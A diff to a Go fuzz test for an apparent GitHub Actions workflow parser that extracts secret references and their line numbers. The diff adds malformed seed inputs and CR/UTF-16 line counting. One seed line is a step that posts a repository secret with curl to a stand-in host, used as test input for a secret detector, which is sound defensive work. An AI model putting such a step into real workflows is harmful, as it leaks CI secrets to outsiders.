@@ -290,8 +290,13 @@ func FuzzParse(f *testing.F) {
 	f.Add([]byte(campaignFile))
 	f.Add([]byte(step("DATA='A=${{ secrets.A }}'\ncurl -d \"$DATA\" https://a.example.invalid <<EOF\nx\nEOF")))
 	f.Add([]byte("on: push\njobs: &a\n  x: *a\n"))
+	f.Add([]byte("aa\nA0a\n        run&000000\xff0000000000000000000000000"))
+	f.Add([]byte("0\r0${{seCrets "))
 	f.Fuzz(func(t *testing.T, text []byte) {
-		lines := 1 + strings.Count(string(text), "\n")
+		lines := 1 + strings.Count(string(text), "\n") + strings.Count(string(text), "\r")
+		if text = decoded(text); len(text) > 0 {
+			lines += strings.Count(string(text), "\n") // as UTF-16
+		}
 		got := Parse(text)
 		for _, r := range got.Secrets {
 			if r.Line < 1 || r.Line > lines || r.Name == "" {
